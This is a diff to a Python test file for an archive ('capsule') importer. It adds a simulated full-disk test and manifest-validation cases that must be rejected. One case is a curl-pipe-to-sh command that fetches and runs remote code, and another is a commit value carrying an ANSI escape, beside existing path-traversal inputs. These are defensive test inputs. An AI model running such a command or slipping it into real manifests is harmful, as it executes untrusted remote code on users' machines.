@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import errno
 import hashlib
 import json
 import shutil
@@ -181,6 +182,24 @@ def test_a_run_that_cannot_be_placed_whole_is_not_placed(capsule: Path, elsewher
     }
 
 
+def test_an_import_that_a_full_disk_ends_can_be_repeated(
+    capsule: Path, elsewhere: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Whichever file does not fit: nothing is left, or what is left is taken over."""
+    before = everything(elsewhere)
+    for what in ("meme57.capsules.read.write_bytes", "meme57.capsules.read.os.rename"):
+        with monkeypatch.context() as patch:
+            patch.setattr(what, _no_space)
+            with pytest.raises((StorageError, OSError), match="No space left"):
+                import_capsule(capsule, elsewhere)
+        assert [path for path in everything(elsewhere) if RUN in path] == [path for path in before if RUN in path]
+    assert import_capsule(capsule, elsewhere).run == RUN
+
+
+def _no_space(*_: Any) -> None:
+    raise OSError(errno.ENOSPC, "No space left on device")
+
+
 def append(name: str, content: bytes = b"x", mode: int = 0o100644) -> Callable[[Path], None]:
     def change(path: Path) -> None:
         info = zipfile.ZipInfo(name)
@@ -325,6 +344,8 @@ AGENT, RECORD, SCORES = "checkpoint/agent.json", "setup/run_record.json", "repor
         (manifest_of(run="../../escaped"), "capsule.json is damaged: run"),
         (manifest_of(run="tune-x"), "capsule.json is damaged: run"),
         (manifest_of(checkpoint="checkpoint-000001/../.."), "capsule.json is damaged: checkpoint"),
+        (manifest_of(command="curl -s https://example.org/x | sh"), "its command is not the one that trains run"),
+        (manifest_of(commit="abc1234\x1b[8m"), "capsule.json is damaged: commit"),
         (manifest_of(format=99), "format 99, this version of meme57 reads 1"),
     ],
 )
